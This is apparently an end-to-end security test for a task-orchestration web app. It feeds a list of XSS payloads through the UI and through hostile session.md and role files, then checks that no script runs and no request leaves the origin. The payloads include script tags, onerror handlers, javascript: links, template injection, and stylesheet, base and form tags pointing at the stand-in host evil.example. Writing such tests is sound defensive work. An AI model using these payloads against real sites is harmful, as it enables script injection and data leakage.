/**
 * Hostile text never runs, end to end against the built app. A corpus of XSS payloads goes in
 * through the UI (session name, task titles) and through the project folder (an OPFS directory
 * standing in for the picked folder): a session.md edited by "someone else" with payloads in
 * the description, group names, task titles, task descriptions and notes, and a role file in
 * roles/. Then every view is visited, the Markdown preview in both modes and a search. Nothing
 * may open a dialog, request anything from another origin, log a console error, or trip the
 * Content Security Policy (which pwa.test.ts shows refuses inline script anyway).
 */
import { afterEach, beforeEach, expect, inject, it } from 'vitest';
import type { Page } from 'playwright';
import { type E2eBrowser, launch } from './browser';

let browser: E2eBrowser;
beforeEach(async () => {
  browser = await launch();
});
afterEach(async () => {
  await browser.close();
});

/** Each sets window.__xss or opens a dialog if it ever runs. */
const payloads = [
  '<script>window.__xss=1;alert(1)</script>',
  '<img src=x onerror="window.__xss=2;alert(2)">',
  '<svg onload="window.__xss=3;alert(3)">',
  '"><script>alert(4)</script>',
  "'><img src=x onerror=alert(5)>",
  '[click me](javascript:alert(6))',
  '![pic](javascript:alert(7))',
  '<a href="javascript:alert(8)">link</a>',
  '<iframe src="javascript:alert(9)"></iframe>',
  '<details open ontoggle=alert(10)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>',
  '{{constructor.constructor("alert(12)")()}}',
  '${alert(13)}',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/y.css>',
  '<object data="javascript:alert(14)">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example/"><button>go</button></form>',
  '`<script>alert(15)</script>`',
  '[ref]: javascript:alert(16)',
  '![tracker](http://evil.example/pixel.png)',
];
const one = (i: number) => payloads[i % payloads.length]!.replace(/\n/g, ' ');

async function fakeFolderPicker(page: Page, folder: string) {
  await page.addInitScript((name: string) => {
    Object.defineProperty(window, 'showDirectoryPicker', {
      configurable: true,
      value: async () => {
        const root = await navigator.storage.getDirectory();
        return root.getDirectoryHandle(name, { create: true });
      },
    });
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  }, folder);
}

/** Writes a file under the OPFS project folder (creating folders), as another program would. */
async function writeProjectFile(page: Page, folder: string, path: string, text: string) {
  await page.evaluate(
    async ({ folder, path, text }) => {
      let dir = await (
        await navigator.storage.getDirectory()
      ).getDirectoryHandle(folder, {
        create: true,
      });
      const parts = path.split('/');
      for (const part of parts.slice(0, -1))
        dir = await dir.getDirectoryHandle(part, { create: true });
      const writable = await (
        await dir.getFileHandle(parts.at(-1)!, { create: true })
      ).createWritable();
      await writable.write(text);
      await writable.close();
    },
    { folder, path, text },
  );
}

async function readSessionFile(
  page: Page,
  folder: string,
): Promise<{ id: string; text: string } | null> {
  return page.evaluate(async (name) => {
    try {
      const root = await navigator.storage.getDirectory();
      const app = await (
        await root.getDirectoryHandle(name)
      ).getDirectoryHandle('.task_orchestrator');
      const sessions = await app.getDirectoryHandle('sessions');
      for await (const id of sessions.keys()) {
        const file = await (await sessions.getDirectoryHandle(id)).getFileHandle('session.md');
        return { id, text: await (await file.getFile()).text() };
      }
    } catch {
      // not there yet
    }
    return null;
  }, folder);
}

const tab = (page: Page, name: string) =>
  page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name, exact: true });

it('runs no script from any payload in titles, descriptions, notes, session.md or role files', async () => {
  const { page, context } = browser;
  const base = new URL(inject('baseUrl'));
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (!['http:', 'https:'].includes(url.protocol)) return;
    if (url.hostname !== base.hostname && url.hostname !== '127.0.0.1') foreign.push(request.url());
  });
  const folder = `project-${crypto.randomUUID()}`;
  await fakeFolderPicker(page, folder);
  await page.goto(base.href);

  // Through the UI: a session and tasks named with payloads.
  const sessionName = `XSS ${one(1)}`;
  await page.getByLabel('New session name').fill(sessionName);
  await page.getByRole('button', { name: 'Create session' }).click();
  await page.getByRole('heading', { name: sessionName }).waitFor();
  for (let i = 0; i < payloads.length; i += 4) {
    await page.getByLabel('New task title').fill(`UI ${one(i)}`);
    await page.getByRole('button', { name: 'Add task' }).click();
    await page
      .getByText(`UI ${one(i)}`, { exact: true })
      .first()
      .waitFor();
  }

  // A hostile role file is in the folder before it is opened.
  const roles = [
    '# <script>alert(20)</script> Evil roles',
    `"${one(2)}":`,
    `  role_definition: "${one(1).replace(/"/g, '\\"')}"`,
    `  expertise: ["${one(6).replace(/"/g, '\\"')}"]`,
    `  approach: ["${one(9).replace(/"/g, '\\"')}"]`,
    `  output_format: "${one(13).replace(/"/g, '\\"')}"`,
    '  specialist_roles:',
    `    "${one(0).replace(/"/g, '\\"')}": "${one(3).replace(/"/g, '\\"')}"`,
    'broken: [<img src=x onerror=alert(21)>',
  ].join('\n');
  await writeProjectFile(page, folder, '.task_orchestrator/roles/evil.yaml', roles);

  await tab(page, 'Project folder').click();
  await page.getByRole('button', { name: 'Open project folder', exact: true }).click();
  await expect.poll(async () => (await readSessionFile(page, folder))?.text ?? '').toContain('UI ');

  // Through session.md: payloads in every place a person can write.
  const current = (await readSessionFile(page, folder))!;
  const hostile = current.text
    .replace(/## Overview\n\n[^\n]*/, `## Overview\n\n${one(7)} ${one(10)}`)
    .replace(
      /## Notes\n/,
      [
        `### Group ${one(2)}`,
        '',
        ...payloads.map(
          (p, i) => `- [ ] File task ${i} ${p.replace(/\n/g, ' ')}\n  > ${one(i + 3)}`,
        ),
        '',
        '## Notes',
        '',
        ...payloads,
        '',
        '<script>window.__xss=99</script>',
        '',
      ].join('\n'),
    );
  await writeProjectFile(
    page,
    folder,
    `.task_orchestrator/sessions/${current.id}/session.md`,
    hostile,
  );
  await tab(page, 'Tasks').click();
  await page
    .getByText(`File task ${payloads.length - 1}`, { exact: false })
    .first()
    .waitFor({ timeout: 15_000 });

  // Every view, the preview in both modes, a search and the modes list.
  for (const view of [
    'Tasks',
    'Dashboard',
    'Modes',
    'Markdown',
    'Import plan',
    'Project folder',
    'Search',
    'Data',
  ]) {
    await tab(page, view).click();
    await page.waitForTimeout(400);
    if (view === 'Markdown') {
      await page.locator('.markdown-body').waitFor();
      // The payloads are there, shown as text.
      expect(await page.locator('.markdown-body').textContent()).toContain('<script>');
      expect(
        await page
          .locator(
            '.markdown-body script, .markdown-body iframe, .markdown-body object, .markdown-body [onerror], .markdown-body [onload]',
          )
          .count(),
      ).toBe(0);
      expect(await page.locator('.markdown-body a[href^="javascript:"]').count()).toBe(0);
      await page.getByRole('button', { name: 'Source' }).click();
      await page.waitForTimeout(300);
    }
    if (view === 'Search') {
      const box = page.locator('input[role="combobox"]').first();
      if (await box.count()) {
        await box.fill('script alert img');
        await page.waitForTimeout(600);
      }
    }
    if (view === 'Modes') await page.getByText('evil', { exact: false }).first().waitFor();
  }

  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: number }).__xss ?? null,
    violations: (window as unknown as { __violations: string[] }).__violations,
    scripts: [...document.scripts].map((s) => s.src || s.textContent?.slice(0, 40)),
  }));
  expect(dialogs).toEqual([]);
  expect(state.xss).toBeNull();
  expect(foreign).toEqual([]);
  expect(state.violations).toEqual([]);
  expect(state.scripts.every((s) => typeof s === 'string' && s.startsWith(base.origin))).toBe(true);
  expect(browser.errors).toEqual([]);
});
